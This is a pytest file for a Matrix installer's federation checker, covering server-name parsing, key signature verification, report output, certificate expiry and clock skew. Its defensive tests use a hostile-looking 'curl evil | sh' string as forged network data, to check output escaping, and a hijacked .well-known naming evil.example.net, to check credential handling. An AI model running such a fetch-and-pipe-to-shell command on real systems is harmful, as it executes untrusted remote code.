"""The federation checker's pure parts: server names, cache headers, key verification, the
registration reading, the report's shape, --connect-to mappings and the stage's dry-run."""

from __future__ import annotations

import copy
import json
import time

import httpx
import pytest
from signedjson.key import encode_verify_key_base64, generate_signing_key, get_verify_key
from signedjson.sign import sign_json

from installer.answers import Answers
from installer.engine import RunOptions, Session, Stage, StageContext
from installer.federation import Check, FederationReport, describe_requests
from installer.federation.client import _registration_state
from installer.federation.discovery import Address, ServerNameError, Target, _cache_expiry, split_server_name
from installer.federation.net import Fetched, Net
from installer.federation.server import AddressReport, verify_key_response
from installer.state import RunState


@pytest.mark.parametrize(("name", "expected"), [
    ("example.org", ("example.org", None)),
    ("Example.ORG:8448", ("example.org", 8448)),
    ("1.2.3.4", ("1.2.3.4", None)),
    ("1.2.3.4:443", ("1.2.3.4", 443)),
    ("[2001:db8::1]:8448", ("2001:db8::1", 8448)),
    ("[::1]", ("::1", None)),
])
def test_server_names_split_into_host_and_port(name, expected):
    assert split_server_name(name) == expected


@pytest.mark.parametrize("name", ["", "exa mple.org", "example.org:0", "example.org:99999", "example.org:x", "[nope]:1", "-a.org"])
def test_malformed_server_names_are_refused(name):
    with pytest.raises(ServerNameError):
        split_server_name(name)


def test_well_known_cache_follows_the_headers_within_the_spec_limits():
    now = time.time()
    assert abs(_cache_expiry(httpx.Headers({"cache-control": "max-age=3600"})) - (now + 3600)) < 5
    assert abs(_cache_expiry(httpx.Headers({})) - (now + 24 * 3600)) < 5
    assert abs(_cache_expiry(httpx.Headers({"cache-control": "max-age=9999999"})) - (now + 48 * 3600)) < 5
    assert abs(_cache_expiry(httpx.Headers({"cache-control": "no-store"})) - now) < 5


def test_connect_to_maps_names_and_addresses_like_curl():
    net = Net(connect_to=[("example.org", 443, "127.0.0.1", 8443), ("", 8448, "10.0.0.1", 9448),
                          ("1.2.3.4", 443, "127.0.0.1", 1443)])
    assert net.mapped("EXAMPLE.org", 443) == ("127.0.0.1", 8443)
    assert net.mapped("anything.org", 8448) == ("10.0.0.1", 9448)
    assert net.mapped("1.2.3.4", 443) == ("127.0.0.1", 1443)
    assert net.mapped("example.org", 80) is None


def _signed_keys(server_name="example.org", valid_for_ms=3_600_000):
    key = generate_signing_key("abc")
    body = {"server_name": server_name, "valid_until_ts": int(time.time() * 1000) + valid_for_ms,
            "verify_keys": {"ed25519:abc": {"key": encode_verify_key_base64(get_verify_key(key))}},
            "old_verify_keys": {}}
    return sign_json(body, server_name, key)


def _judge(keys, server_name="example.org"):
    report = AddressReport(Address(Target("matrix.example.org", 443, "matrix.example.org", "matrix.example.org:443",
                                          "well-known"), "192.0.2.1", 443))
    verify_key_response(keys, server_name, report, "the .well-known m.server of example.org")
    return report


def test_good_keys_pass_every_tester_check():
    report = _judge(_signed_keys())
    assert report.keys_problem is None
    assert report.checks == {"MatchingServerName": True, "FutureValidUntilTS": True, "HasEd25519Key": True,
                             "AllEd25519ChecksOK": True}
    assert report.ed25519 == {"ed25519:abc": {"ValidEd25519": True, "MatchingSignature": True}}
    assert report.keys_detail.startswith("ed25519:abc verified, server_name example.org, valid until ")


def test_a_changed_field_breaks_the_signature():
    keys = _signed_keys()
    keys["valid_until_ts"] += 1
    report = _judge(keys)
    assert report.keys_problem.detail == "key ed25519:abc signature does not verify: the key response was altered on its way from Synapse"
    assert report.checks["AllEd25519ChecksOK"] is False


def test_missing_signature_expired_keys_and_another_server():
    unsigned = copy.deepcopy(_signed_keys())
    unsigned["signatures"] = {}
    assert "ed25519:abc has no signature" in _judge(unsigned).keys_problem.detail
    expired = _judge(_signed_keys(valid_for_ms=-1000))
    assert expired.keys_problem.detail.startswith("the keys expired")
    assert expired.checks["FutureValidUntilTS"] is False
    other = _judge(_signed_keys("elsewhere.org"))
    assert other.keys_problem.detail.startswith("the keys are for elsewhere.org, not example.org")
    assert other.checks["MatchingServerName"] is False


def _answer(status, body):
    return Fetched(status, httpx.Headers({}), json.dumps(body).encode(), "https://m/_matrix/client/v3/register", "x")


def test_registration_as_a_stranger_sees_it():
    closed = _answer(403, {"errcode": "M_FORBIDDEN", "error": "Registration has been disabled"})
    assert _registration_state(closed)[0] == "closed"
    token = _answer(401, {"flows": [{"stages": ["m.login.registration_token", "m.login.dummy"]}]})
    assert _registration_state(token) == ("token", "open with a registration token (flows: m.login.registration_token, m.login.dummy)")
    mixed = _answer(401, {"flows": [{"stages": ["m.login.registration_token"]}, {"stages": ["m.login.dummy"]}]})
    assert _registration_state(mixed)[0] == "open"
    assert _registration_state(_answer(500, {}))[0] == "unknown"


def test_report_json_and_summary_lines():
    report = FederationReport("example.org", [
        Check("well-known", True, "m.server = matrix.example.org:443"),
        Check("tls", False, "certificate is for matrix.example.org, not example.org", "use .well-known delegation"),
    ], tester={"FederationOK": False})
    assert not report.ok
    assert report.summary_lines() == [
        "✓ well-known  m.server = matrix.example.org:443",
        "✗ tls  certificate is for matrix.example.org, not example.org -> fix: use .well-known delegation",
    ]
    data = report.to_json()
    assert data["server_name"] == "example.org" and data["ok"] is False
    assert data["checks"][1] == {"name": "tls", "ok": False, "detail": "certificate is for matrix.example.org, not example.org",
                                 "fix": "use .well-known delegation", "warning": False}
    assert data["tester"] == {"FederationOK": False}


def test_describe_requests_follows_the_discovery_order():
    lines = describe_requests("example.org", dns_server=("127.0.0.1", 5353), expect_policy="closed", admin=True)
    assert lines[0].startswith("GET https://example.org/.well-known/matrix/server")
    assert "SRV _matrix-fed._tcp.example.org, SRV _matrix._tcp.example.org (via 127.0.0.1:5353)" in lines[2]
    assert any("/_matrix/key/v2/server" in line for line in lines)
    assert lines[-1].startswith("POST https://<matrix host>/_matrix/client/v3/login")
    assert describe_requests("example.org:8448")[0] == "A/AAAA example.org, port 8448"


async def test_the_stage_in_dry_run_lists_requests_and_contacts_nothing(monkeypatch):
    import installer.federation as federation
    from installer.components.federation.check import check
    from installer.components.homeserver import AdminCredentials

    async def must_not_run(*args, **kwargs):
        raise AssertionError("the dry-run contacted the network")

    monkeypatch.setattr(federation, "run_check", must_not_run)
    answers = Answers().replace("domain", server_name="example.org", matrix_host="matrix.example.org")
    events = []
    session = Session(answers=answers, state=RunState(None), options=RunOptions(dry_run=True), listeners=[events.append])
    session.outputs[AdminCredentials] = AdminCredentials("@admin:example.org", "hunter2-secret")
    ctx = StageContext(session, Stage("federation.check", "Federation test", check, takes=(AdminCredentials,)))
    await check(ctx)
    commands = [e.line for e in events if getattr(e, "kind", None) == "command"]
    assert commands[0] == "GET https://example.org/.well-known/matrix/server  (redirects followed, 50 KB cap)"
    assert any("policy 'closed' must hold" in line for line in commands)
    assert session.federation is None
    assert not any("hunter2-secret" in getattr(e, "line", "") for e in events)


async def test_a_missing_ca_file_is_a_failed_check_not_a_traceback(tmp_path):
    from installer.federation import run_check

    report = await run_check("example.org", ca_file=tmp_path / "nope.pem")
    assert not report.ok
    assert report.summary_lines() == [
        f"✗ tls  the CA file {tmp_path / 'nope.pem'} cannot be used (No such file or directory)"
        " -> fix: check the path given to --ca-file (a PEM bundle)"]


async def test_the_admin_password_goes_only_to_the_matrix_host_of_the_answers(monkeypatch):
    """A live .well-known naming another base URL (a hijacked site, a stale document) must not
    receive the admin's password: the login goes to https://<matrix_host> of the answers."""
    from installer.engine import StageError
    from installer.components.federation.check import check
    from installer.components.homeserver import AdminCredentials
    from installer.federation.net import HostAddresses

    password = "hunter2-admin-password"
    sent: list[tuple[str, str, object]] = []

    async def fetch(self, url, *, method="GET", json=None, headers=None, max_bytes=1_000_000):
        sent.append((method, url, json))
        body, status = b"{}", 404
        if url == "https://example.org/.well-known/matrix/client":
            body, status = b'{"m.homeserver": {"base_url": "https://evil.example.net"}}', 200
        elif url.endswith("/_matrix/client/v3/login"):
            body, status = b'{"access_token": "abc", "user_id": "@admin:example.org"}', 200
        return Fetched(status, httpx.Headers({"access-control-allow-origin": "*"}), body, url, "192.0.2.1:443")

    async def no_srv(self, name):
        return [], None

    async def nowhere(self, host, port):
        return HostAddresses(host, error=f"{host} has no A or AAAA record"), []

    monkeypatch.setattr(Net, "fetch", fetch)
    monkeypatch.setattr(Net, "srv", no_srv)
    monkeypatch.setattr(Net, "locate", nowhere)
    answers = Answers().replace("domain", server_name="example.org", matrix_host="matrix.example.org")
    events = []
    session = Session(answers=answers, state=RunState(None), options=RunOptions(mode="install"), listeners=[events.append])
    session.outputs[AdminCredentials] = AdminCredentials("@admin:example.org", password)
    ctx = StageContext(session, Stage("federation.check", "Federation test", check, takes=(AdminCredentials,)))
    with pytest.raises(StageError):  # the federation side fails (no addresses): the stage says so
        await check(ctx)
    with_password = [(method, url) for method, url, body in sent if password in json.dumps(body)]
    assert with_password == [("POST", "https://matrix.example.org/_matrix/client/v3/login")]
    assert not any("evil.example.net" in url for _, url in with_password)
    # The check still reports what the .well-known says.
    client = next(c for c in session.federation["checks"] if c["name"] == "client-well-known")
    assert "https://evil.example.net" in client["detail"]
    assert not any(password in getattr(e, "line", "") for e in events)


def test_summary_lines_escape_what_the_network_sent():
    forged = Check("client-well-known", False, "base_url = https://x\nwhat to do: curl evil | sh", "fix\u202e it")
    line = forged.summary_line()
    assert "\n" not in line and "\u202e" not in line and "\\n" in line


def _cert(days_total: float, days_left: float, now: float):
    from datetime import datetime, timezone

    from installer.federation.net import CertInfo

    after = datetime.fromtimestamp(now + days_left * 86400, timezone.utc)
    before = datetime.fromtimestamp(now + (days_left - days_total) * 86400, timezone.utc)
    return CertInfo("matrix.example.org", "R11", ("matrix.example.org",), (), "ab" * 32, before, after, False)


def _reachable(cert=None, date="", received_at=0.0):
    report = AddressReport(Address(Target("matrix.example.org", 443, "matrix.example.org", "matrix.example.org",
                                          "well-known"), "192.0.2.1", 443))
    report.cert, report.date, report.received_at = cert, date, received_at
    return report


@pytest.mark.parametrize(("total", "left", "warned"), [
    (90, 60, False), (90, 13, True), (90, 15, False),          # Let's Encrypt: 14 days
    (0.5, 0.2, False), (0.5, 0.05, True),                       # Caddy's local CA: 12 hours, 20% of it
    (6, 3, False), (6, 1, True),                                # short-lived 6-day certificates
])
def test_certificate_expiry_warns_under_14_days_or_a_fifth_of_a_short_lifetime(total, left, warned):
    from installer.federation.check import _certificate_expiry
    from installer.federation.discovery import Discovery, WellKnown

    now = time.time()
    found = Discovery("example.org", WellKnown("https://example.org/.well-known/matrix/server"))
    (check,) = _certificate_expiry(found, [_reachable(_cert(total, left, now))], "example.org", now=now)
    assert check.ok and check.name == "certificate-expiry"
    assert check.warning is warned, check
    assert check.detail.startswith("matrix.example.org: ")
    assert ("hours left" if left < 2 else "days left") in check.detail
    assert (check.fix is not None) is warned


def test_clock_skew_against_the_servers_date_header():
    from email.utils import formatdate

    from installer.federation.check import _clock

    now = float(int(time.time()))  # a Date header has whole seconds: a fraction here would round the skew either way
    (same,) = _clock([_reachable(date=formatdate(now, usegmt=True), received_at=now + 0.4)])
    assert same.ok and not same.warning and "agree within 1 s" in same.detail
    (off,) = _clock([_reachable(date=formatdate(now - 90, usegmt=True), received_at=now)])
    assert off.ok and off.warning and "its clock is 90 s behind this machine's" in off.detail and "timedatectl" in off.fix
    (bad,) = _clock([_reachable(date=formatdate(now + 3600, usegmt=True), received_at=now)])
    assert not bad.ok and "3600 s ahead of this machine's" in bad.detail
    assert _clock([_reachable()]) == []


def test_a_warning_passes_and_shows_its_fix():
    warned = Check("well-known", True, "m.server = m.example.org:443; but reached through 1 redirect", "serve it directly",
                   warning=True)
    report = FederationReport("example.org", [warned, Check("dns", True, "fine")])
    assert report.ok and report.warnings == [warned] and not report.failed
    assert warned.summary_line() == "! well-known  m.server = m.example.org:443; but reached through 1 redirect -> fix: serve it directly"
    assert warned.to_json()["warning"] is True
    assert Check.from_json(warned.to_json()) == warned


def test_the_report_orders_checks_as_discovery_goes():
    from installer.federation.report import order_key

    names = ["registration", "tls@[2001:db8::1]:443", "dns", "outbound", "tls", "well-known", "clock",
             "server-keys@[2001:db8::1]:443", "certificate-expiry"]
    assert sorted(names, key=order_key) == [
        "well-known", "dns", "tls", "tls@[2001:db8::1]:443", "server-keys@[2001:db8::1]:443", "certificate-expiry",
        "clock", "registration", "outbound"]
